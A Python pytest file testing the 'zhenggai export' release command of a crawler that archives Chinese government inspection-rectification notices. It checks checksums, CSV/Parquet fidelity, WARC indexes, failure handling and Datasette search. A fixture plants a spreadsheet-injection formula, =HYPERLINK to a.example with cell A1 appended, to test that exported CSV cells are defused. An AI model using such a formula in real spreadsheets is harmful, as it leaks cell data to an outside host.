"""`zhenggai export`: a release holds together and stands alone; what fails, or is killed, leaves nothing in its place."""

import asyncio
import csv
import json
import os
import shutil
import signal
import sqlite3
import subprocess
import sys
import time
from io import BytesIO
from pathlib import Path
from typing import Any
from urllib.parse import urlencode

import pytest
import yaml
from cdxj_indexer.main import CDXJIndexer
from crawling import Answer, SiteServer, listing
from datasette.app import Datasette
from pyarrow.parquet import read_table
from sqlite_utils import Database
from test_crawl_archive import PROJECT, command, crawl, declare_in, notice, routes
from test_revisits import captures_of, faults
from warcio.archiveiterator import ArchiveIterator

from pipelines.row_hashes import note_notice
from pipelines.search import contains
from pipelines.tables import guarded
from zhenggai.copies import UNFINISHED
from zhenggai.release import NOT_FOR_READERS

FORMULA = '=HYPERLINK("http://a.example/?"&A1,"市水务局")'
TITLE = "中共临河县水务局党组关于巡察整改情况的通报"


def export(directory: Path, db: Path, *options: str) -> subprocess.CompletedProcess[str]:
    arguments = [sys.executable, "-m", "zhenggai", "export", str(directory), "--db", str(db), *options]
    return subprocess.run(arguments, cwd=PROJECT, capture_output=True, text=True, timeout=120, check=False)


def checksums_hold(directory: Path) -> bool:
    checked = subprocess.run(["sha256sum", "--quiet", "--strict", "-c", "SHA256SUMS"], cwd=directory, check=False)
    named = {line.split(maxsplit=1)[1] for line in (directory / "SHA256SUMS").read_text("utf-8").splitlines()}
    present = {str(path.relative_to(directory)) for path in directory.rglob("*") if path.is_file()}
    return checked.returncode == 0 and named == present - {"SHA256SUMS"}


@pytest.fixture(scope="module")
def crawled(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """An archive crawled twice, with a 304, a redirect, an address in GBK, and a text that a spreadsheet would run."""
    directory = tmp_path_factory.mktemp("crawled")
    rows = [(f"./{name}.html", f"{TITLE}（{name}）", "2023-01-01") for name in ("a", "b", "moved", "通知")]

    def serve(path: str, form: bytes) -> Answer:
        held = server.headers.get("If-None-Match") == '"v1"'
        return Answer(b"", 304) if held else Answer(notice(1), headers=(("Content-Type", "text/html"), ("ETag", '"v1"'))).gzipped()

    pages = {
        "/tzgg/": listing(rows),
        "/tzgg/a.html": serve,
        "/tzgg/b.html": notice(2),
        "/tzgg/moved.html": Answer("", 301, (("Location", "/tzgg/new.html?B=2&a=1"),)),
        "/tzgg/new.html": notice(3),
        "/tzgg/%CD%A8%D6%AA.html": notice(4),
    }
    with SiteServer(pages) as server:
        site, db = declare_in(directory, server), directory / "a.db"
        for _ in range(2):
            assert crawl(site, db).returncode == 0
            archive = Database(db)
            archive.execute("UPDATE pages SET next_visit = '2000-01-01'")
            archive.conn.commit()
    # By other rules, so that no capture need say so; and noted, as what the program writes is.
    (number,) = archive.execute("SELECT min(id) FROM notices").fetchone()
    archive.execute("UPDATE notices SET issuing_body = ?, county = '', rules = '0' WHERE id = ?", [FORMULA, number])
    note_notice(archive, number)
    archive.conn.commit()
    archive.close()
    return db


@pytest.fixture
def db(crawled: Path, tmp_path: Path) -> Path:
    """The same archive, for a test that breaks it."""
    shutil.copytree(crawled.parent, tmp_path / "mine")
    return tmp_path / "mine" / "a.db"


@pytest.fixture(scope="module")
def release(crawled: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    directory = tmp_path_factory.mktemp("releases") / "2026-11"
    result = export(directory, crawled, "--captures")
    assert result.returncode == 0, result.stderr
    assert str(directory) in result.stdout
    return directory


def test_the_copy_is_an_archive_like_the_one_it_was_made_from(release: Path, crawled: Path) -> None:
    original, copy = Database(crawled), Database(release / "archive.db")
    tables = set(original.table_names())
    assert set(copy.table_names()) == tables
    for table in tables - {"captures"}:
        assert list(copy.table(table).rows) == list(original.table(table).rows), table
    assert copy.execute("PRAGMA journal_mode").fetchone() == ("delete",), "a WAL file could not be opened where nothing may be written"
    assert faults(copy, release) == []
    verify = [sys.executable, "-m", "zhenggai", "verify", "--db", str(release / "archive.db")]
    assert subprocess.run(verify, cwd=PROJECT, capture_output=True, check=False).returncode == 0
    assert checksums_hold(release)


def test_csv_and_parquet_hold_what_the_archive_holds(release: Path) -> None:
    copy = Database(release / "archive.db")
    described = yaml.safe_load((release / "metadata.yml").read_text("utf-8"))["databases"]["archive"]["tables"]
    tables = {name for name, table in described.items() if not table.get("hidden")} - NOT_FOR_READERS
    assert {path.stem for path in (release / "csv").iterdir()} == {path.stem for path in (release / "parquet").iterdir()} == tables
    assert {"notices", "texts", "problems", "evidence", "captures", "versions"} <= tables
    for table in tables:
        rows = list(copy.table(table).rows)
        assert read_table(release / "parquet" / f"{table}.parquet").to_pylist() == rows, table
        with (release / "csv" / f"{table}.csv").open(encoding="utf-8", newline="") as file:
            read = list(csv.DictReader(file))
        texts = [name for name, kind in copy.table(table).columns_dict.items() if kind is str]
        assert [[row[name] for name in texts] for row in read] == [[guarded(row[name] or "") for name in texts] for row in rows], table


def test_no_cell_is_a_formula_and_null_is_not_an_empty_text(release: Path) -> None:
    raw = (release / "csv" / "notices.csv").read_text("utf-8")
    assert '"\'=HYPERLINK(""http://a.example/?""&A1,""市水务局"")"' in raw
    (row,) = [line for line in raw.splitlines() if "HYPERLINK" in line]
    assert '"河北省",,"",' in row, "no city, and an empty county"
    with (release / "csv" / "notices.csv").open(encoding="utf-8", newline="") as file:
        assert not [cell for row in csv.reader(file) for cell in row if cell.startswith(tuple("=+-@＝＋－＠"))]
    assert "= + - @" in (release / "README.txt").read_text("utf-8")


def test_the_index_is_the_one_that_cdxj_indexer_makes(release: Path, tmp_path: Path) -> None:
    CDXJIndexer(str(tmp_path / "theirs"), sorted(str(path) for path in (release / "captures").iterdir()), sort=True).process_all()
    lines = (tmp_path / "theirs").read_text("ascii").splitlines()
    ours = (release / "captures.cdxj").read_bytes()
    # pywb would show a reader the 304 itself, which is blank.
    assert ours.decode("ascii").splitlines() == [line for line in lines if '"status": "304"' not in line]
    assert len(lines) - len(ours.splitlines()) == 1
    assert b"warc/revisit" in ours
    assert ours.splitlines() == sorted(ours.splitlines())


def test_a_line_of_the_index_leads_to_its_record(release: Path) -> None:
    for line in (release / "captures.cdxj").read_text("ascii").splitlines():
        _, timestamp, fields = line.split(" ", 2)
        entry = json.loads(fields)
        with (release / "captures" / entry["filename"]).open("rb") as warc:
            warc.seek(int(entry["offset"]))
            (record,) = ArchiveIterator(BytesIO(warc.read(int(entry["length"]))))
            assert record.rec_headers["WARC-Target-URI"] == entry["url"]
            assert "".join(filter(str.isdigit, record.rec_headers["WARC-Date"])) == timestamp


def test_without_captures_the_release_has_their_index(crawled: Path, release: Path, tmp_path: Path) -> None:
    assert export(tmp_path / "small", crawled).returncode == 0
    assert not (tmp_path / "small" / "captures").exists()
    assert (tmp_path / "small" / "captures.cdxj").read_bytes() == (release / "captures.cdxj").read_bytes()
    assert checksums_hold(tmp_path / "small")


def test_captures_that_lie_elsewhere_lie_in_the_release(tmp_path: Path) -> None:
    with SiteServer(routes(2)) as server:
        site, db = declare_in(tmp_path, server), tmp_path / "archive" / "a.db"
        db.parent.mkdir()
        assert crawl(site, db, "-s", f"CAPTURES_DIR={tmp_path / 'elsewhere'}").returncode == 0
    assert export(tmp_path / "release", db, "--captures").returncode == 0
    assert faults(Database(tmp_path / "release" / "archive.db"), tmp_path / "release") == []


def test_a_capture_that_was_moved_and_is_linked_to_lies_in_the_release(db: Path) -> None:
    moved, *_ = sorted((db.parent / "captures").iterdir())
    moved.symlink_to(moved.rename(db.parent / "old.warc.gz"))
    release = db.parent / "release"
    assert export(release, db, "--captures").returncode == 0
    assert not (release / "captures" / moved.name).is_symlink()
    assert faults(Database(release / "archive.db"), release) == []


def test_whole_captures_are_linked_and_of_others_the_whole_records_are_copied(db: Path) -> None:
    first, second = sorted((db.parent / "captures").iterdir())
    whole = second.read_bytes()
    with second.open("ab") as file:
        file.write(first.read_bytes()[:300])
    release = db.parent / "release"
    assert export(release, db, "--captures").returncode == 0
    assert (release / "captures" / first.name).samefile(first)
    assert (release / "captures" / second.name).read_bytes() == whole
    assert faults(Database(release / "archive.db"), release) == []


def test_a_release_made_during_a_crawl_does_not_change_with_it(tmp_path: Path) -> None:
    def slowly(path: str, form: bytes) -> str:
        time.sleep(0.3)
        return notice(int(path.rpartition("_")[2].removesuffix(".html")))

    with SiteServer(routes(60) | {path: slowly for path in routes(60) if path != "/tzgg/"}) as server:
        site, db, release = declare_in(tmp_path, server), tmp_path / "a.db", tmp_path / "release"
        with subprocess.Popen(
            command(site, db, "-s", "CONCURRENT_REQUESTS=1"), cwd=PROJECT, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL
        ) as crawling:
            while len(server.requests) < 8:
                time.sleep(0.05)
            result = export(release, db, "--captures")
            assert crawling.poll() is None, "the crawl was to go on meanwhile"
            time.sleep(1)
            assert checksums_hold(release)
            os.kill(crawling.pid, signal.SIGKILL)
    assert result.returncode == 0, result.stderr
    copy = Database(release / "archive.db")
    assert faults(copy, release) == []
    assert 0 < copy.table("notices").count < 60
    assert len((release / "captures.cdxj").read_text().splitlines()) >= copy.table("captures").count


def break_type(db: Path) -> None:
    execute(db, "UPDATE notices SET round = '第七轮'")


def break_reference(db: Path) -> None:
    execute(db, "DELETE FROM sites")


def break_file(db: Path) -> None:
    execute(db, "PRAGMA wal_checkpoint(TRUNCATE)")
    with db.open("r+b") as file:
        file.seek(4096 * 6)
        file.write(bytes(4096 * 30))


def lose_capture(db: Path) -> None:
    next((db.parent / "captures").iterdir()).unlink()


def cut_capture(db: Path) -> None:
    warc = max((db.parent / "captures").iterdir())
    warc.write_bytes(warc.read_bytes()[:2000])


def name_twice(db: Path) -> None:
    execute(db, "UPDATE captures SET warc_file = 'other/' || substr(warc_file, 10) WHERE rowid = 1")


def execute(db: Path, statement: str) -> None:
    connection = sqlite3.connect(db)
    connection.execute(statement)
    connection.commit()
    connection.close()


@pytest.mark.parametrize(
    ("break_it", "reason"),
    [
        (break_type, "table notices, column round"),
        (break_reference, "a row of"),
        (break_file, "a.db"),
        (lose_capture, "is not there"),
        (cut_capture, "no whole record at offset"),
        (name_twice, "same name"),
    ],
)
def test_what_does_not_hold_is_not_released(db: Path, break_it: Any, reason: str) -> None:
    break_it(db)
    before = present(db.parent.parent)
    result = export(db.parent.parent / "release", db, "--captures")
    assert result.returncode == 1
    assert reason in result.stderr
    assert "Traceback" not in result.stderr
    assert present(db.parent.parent) == before


def present(directory: Path) -> list[Path]:
    """All that is there, but for what SQLite keeps beside an open database."""
    return sorted(path for path in directory.rglob("*") if not path.name.endswith(("-wal", "-shm")))


def test_only_a_new_or_empty_directory_is_filled(crawled: Path, tmp_path: Path) -> None:
    (tmp_path / "empty").mkdir()
    assert export(tmp_path / "empty", crawled).returncode == 0
    again = export(tmp_path / "empty", crawled)
    assert again.returncode == 1
    assert "not an empty directory" in again.stderr
    assert checksums_hold(tmp_path / "empty")
    (tmp_path / "file").write_text("kept", "utf-8")
    assert "not an empty directory" in export(tmp_path / "file", crawled).stderr
    assert (tmp_path / "file").read_text("utf-8") == "kept"
    assert "create it first" in export(tmp_path / "no" / "where", crawled).stderr
    assert "no archive here" in export(tmp_path / "new", tmp_path / "none.db").stderr
    assert sorted(path.name for path in tmp_path.iterdir()) == ["empty", "file"]


@pytest.mark.parametrize("number", [signal.SIGTERM, signal.SIGINT, signal.SIGKILL])
def test_an_export_that_is_ended_puts_nothing_in_place(crawled: Path, tmp_path: Path, number: int) -> None:
    arguments = [sys.executable, "-m", "zhenggai", "export", str(tmp_path / "release"), "--db", str(crawled), "--captures"]
    with subprocess.Popen(arguments, cwd=PROJECT, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True) as exporting:
        while not list(tmp_path.glob(f".release{UNFINISHED}*/csv")):
            assert exporting.poll() is None
        exporting.send_signal(number)
        output, _ = exporting.communicate(timeout=60)
    assert exporting.returncode != 0
    assert "Traceback" not in output
    assert not (tmp_path / "release").exists()
    if number != signal.SIGKILL:
        assert list(tmp_path.iterdir()) == []
    assert export(tmp_path / "release", crawled).returncode == 0
    assert [path.name for path in tmp_path.iterdir()] == ["release"]


def test_an_export_leaves_the_folder_of_another_that_still_runs(crawled: Path, tmp_path: Path) -> None:
    others = {f".release{UNFINISHED}1", ".release-mine"}  # the first process of a machine runs for as long as that does
    for name in others:
        (tmp_path / name).mkdir()
    assert export(tmp_path / "release", crawled).returncode == 0
    assert {path.name for path in tmp_path.iterdir()} == {"release", *others}


def test_a_304_of_the_archive_is_in_its_captures(release: Path) -> None:
    copy = Database(release / "archive.db")
    assert [row["status"] for row in captures_of(copy, "/tzgg/a.html")] == [200, 304]


async def _browsed(release: Path, address: str) -> Any:
    datasette = Datasette([], config_dir=release)
    await datasette.invoke_startup()
    return await datasette.client.get(address)


def plainly(release: Path, address: str) -> Any:
    """Ask Datasette as it comes, with nothing but the release."""
    return asyncio.run(_browsed(release, address))


@pytest.mark.parametrize(
    "query",
    ["水务", "水", "水务局党组关于", "巡察 整改", "（a）", "(A)", "ａ", "没有的词语", "“", '"', '" OR "', "年", "  水务\u3000整改 ", ""],
)
def test_plain_datasette_finds_what_a_scan_finds(release: Path, query: str) -> None:
    rows = plainly(release, f"/archive/find.json?_shape=array&{urlencode({'检索词': query})}").json()
    wholes = Database(release / "archive.db").query(
        "SELECT id, title || char(10) || text AS whole FROM notices JOIN texts ON notice_id = id"
    )
    expected = {row["id"] for row in wholes if contains(row["whole"], query)}
    assert {row["id"] for row in rows} == expected
    assert {row["found"] for row in rows} <= {len(expected)}


def test_plain_datasette_shows_no_box_that_finds_nothing(release: Path) -> None:
    for table in ("notices", "texts", "problems"):
        shown = plainly(release, f"/archive/{table}").text
        assert 'name="_search"' not in shown
    assert "zg_" not in plainly(release, "/archive").text
    assert "/archive/find?" in (release / "README.txt").read_text("utf-8")


def test_an_index_that_lacks_a_notice_is_not_released(db: Path) -> None:
    execute(db, "UPDATE search_keys SET search_key = -search_key")
    result = export(db.parent / "release", db)
    assert result.returncode == 1
    assert "Datasette does not find the notices that contain" in result.stderr
